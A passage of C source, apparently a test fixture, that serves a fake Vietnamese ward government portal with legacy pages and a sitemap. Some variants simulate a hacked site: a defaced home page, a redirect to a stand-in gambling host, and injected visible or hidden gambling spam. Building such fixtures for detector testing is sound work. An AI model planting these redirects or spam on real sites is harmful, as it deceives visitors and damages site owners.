	    "chức lấy ý kiến nhân dân</h2>\n<p>Căn cứ Luật Tổ chức chính "
	    "quyền địa phương, Ủy ban nhân dân phường Thái Hòa thông báo đến "
	    "toàn thể nhân dân trên địa bàn phường được biết và tham gia góp "
	    "ý kiến.</p>\n<p>Thời gian: từ ngày 01 đến hết ngày 15 tháng 12 "
	    "năm 2026. Địa điểm: Nhà văn hóa các khu phố.</p>\n<p>Đề nghị "
	    "Trưởng các khu phố thông báo rộng rãi để nhân dân được biết và "
	    "thực hiện.</p>\n</div>\n<div id=\"chantrang\">\n<p>Lượt xem: ");
	sb_thousands(b, 4321 + r->visit);
	sb_add(b, "</p>\n<p>Ủy ban nhân dân phường Thái Hòa – Điện thoại: "
	    "0234 3822 xxx</p>\n</div>\n</body>\n</html>\n");
}

/* An old page typed by hand in a 2008 editor: tag soup, always so. */
static void
soup(struct portal_req *r, struct sbuf *b)
{
	sb_add(b, "<HTML><HEAD><META http-equiv=Content-Type content=\"text/"
	    "html; charset=utf-8\"><TITLE>Hộp thư góp ý – Phường Thái Hòa"
	    "</TITLE></HEAD>\n<BODY bgcolor=#ffffff>\n<TABLE width=100%><TR>"
	    "<TD><FONT face=Arial size=2><B>HỘP THƯ GÓP Ý</B></FONT>\n<P>Mọi "
	    "ý kiến góp ý xin gửi về Văn phòng Ủy ban nhân dân phường Thái "
	    "Hòa.\n<P>Địa chỉ: 25 Nguyễn Huệ, phường Thái Hòa\n</TD><TD>"
	    "<center><I>Ý kiến của nhân dân là cơ sở để chính quyền phục vụ "
	    "tốt hơn</center></I>\n</div></span><TR><TD colspan=2><FONT "
	    "size=1>Số lượt góp ý: ");
	sb_thousands(b, 812 + r->visit);
	sb_add(b, "</FONT><TD>\n<P><A href=/lien-he.html>Liên hệ<A href=/>"
	    "Trang chủ</A>\n</TABLE></BODY>\n<p>Cập nhật lần cuối bởi quản "
	    "trị</p></HTML>\n");
}

static void
notfound(struct portal_req *r, struct sbuf *b)
{
	page_head(r, b, "Không tìm thấy trang – Phường Thái Hòa", "utf-8",
	    NULL);
	page_header(r, b);
	sb_add(b, "<main id=\"main\"><h2>Không tìm thấy trang yêu cầu</h2>"
	    "<p><a href=\"/\">Về trang chủ</a></p></main>\n");
	page_footer(r, b);
}

/* ---- the entry points --------------------------------------------------- */

int
portal_page(struct portal_req *r, struct sbuf *b, char **location)
{
	const char *p = r->path;
	unsigned n;
	char tail;
	int i;

	*location = NULL;
	if (strcmp(p, "/") == 0 || strcmp(p, "/index.html") == 0) {
		if (r->variant == PORTAL_DEFACED) {
			defaced(b);
			return 200;
		}
		if (r->variant == PORTAL_REDIRECTING) {
			if (asprintf(location, "http://nohu88.bet.test:%u/?ref="
			    "thaihoa", r->port) < 0)
				abort();
			sb_add(b, "<html><body>Object moved</body></html>\n");
			return 302;
		}
		home(r, b);
		return 200;
	}
	for (i = 0; i < (int)(sizeof(keypages) / sizeof(keypages[0])); i++)
		if (strcmp(p, keypages[i][0]) == 0) {
			keypage(r, b, i);
			return 200;
		}
	if (sscanf(p, "/tin-tuc/%u.htm%c", &n, &tail) == 2 && tail == 'l' &&
	    n >= 1 && n <= r->npages) {
		article(r, b, n);
		return 200;
	}
	if (strcmp(p, PORTAL_CP1258_PATH) == 0) {
		legacy(r, b);
		return 200;
	}
	if (strcmp(p, PORTAL_SOUP_PATH) == 0) {
		soup(r, b);
		return 200;
	}
	if (strcmp(p, "/tin-tuc/tai-xiu-la-nhu-the-nao.html") == 0 &&
	    (r->variant == PORTAL_GAMBLING_VISIBLE ||
	    r->variant == PORTAL_GAMBLING_HIDDEN)) {
		page_head(r, b, "Tài xỉu là như thế nào? Soi cầu miền bắc "
		    "hôm nay", "utf-8", NULL);
		page_header(r, b);
		sb_add(b, "<main id=\"main\"><h2>Tài xỉu là như thế nào?</h2>"
		    "<p>Hướng dẫn chơi tài xỉu online, nổ hũ, bắn cá đổi "
		    "thưởng tại nhà cái uy tín.</p>\n");
		spam_block(b, "<div>", "</div>");
		sb_add(b, "</main>\n");
		page_footer(r, b);
		return 200;
	}
	notfound(r, b);
	return 404;
}

void
portal_foreign_page(const char *host, struct sbuf *b)
{
	sb_add(b, "<!DOCTYPE html>\n<html lang=\"vi\"><head><meta charset=\""
	    "utf-8\"><title>");
	sb_html(b, host);
	sb_add(b, " – Nổ hũ đổi thưởng, tài xỉu, game bài uy tín</title>"
	    "</head><body><h1>Nhà cái uy tín số 1 – nổ hũ, tài xỉu, cá cược "
	    "bóng đá</h1><p>Đăng ký nhận ngay 88K. Game bài đổi thưởng, bắn "
	    "cá, xóc đĩa, đá gà trực tiếp.</p></body></html>\n");
}

void
portal_sitemap(const struct portal_req *r, struct sbuf *b)
{
	size_t i;
	unsigned n;

	sb_add(b, "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<urlset xmlns="
	    "\"http://www.sitemaps.org/schemas/sitemap/0.9\">\n");
	sb_printf(b, "<url><loc>%s/</loc><changefreq>hourly</changefreq>"
	    "</url>\n", r->base);
	for (i = 0; i < sizeof(keypages) / sizeof(keypages[0]); i++)
		sb_printf(b, "<url><loc>%s%s</loc></url>\n", r->base,
		    keypages[i][0]);
	sb_printf(b, "<url><loc>%s%s</loc></url>\n", r->base,
	    PORTAL_CP1258_PATH);
	sb_printf(b, "<url><loc>%s%s</loc></url>\n", r->base,
	    PORTAL_SOUP_PATH);
	for (n = 1; n <= r->npages; n++)
		sb_printf(b, "<url><loc>%s/tin-tuc/%u.html</loc><lastmod>"
		    "2026-%02u-%02u</lastmod></url>\n", r->base, n,
		    1 + n % 12, 1 + n % 28);
	if (r->variant == PORTAL_GAMBLING_VISIBLE ||
	    r->variant == PORTAL_GAMBLING_HIDDEN)
		sb_printf(b, "<url><loc>%s/tin-tuc/tai-xiu-la-nhu-the-nao.html"
		    "</loc></url>\n", r->base);
	sb_add(b, "</urlset>\n");
}
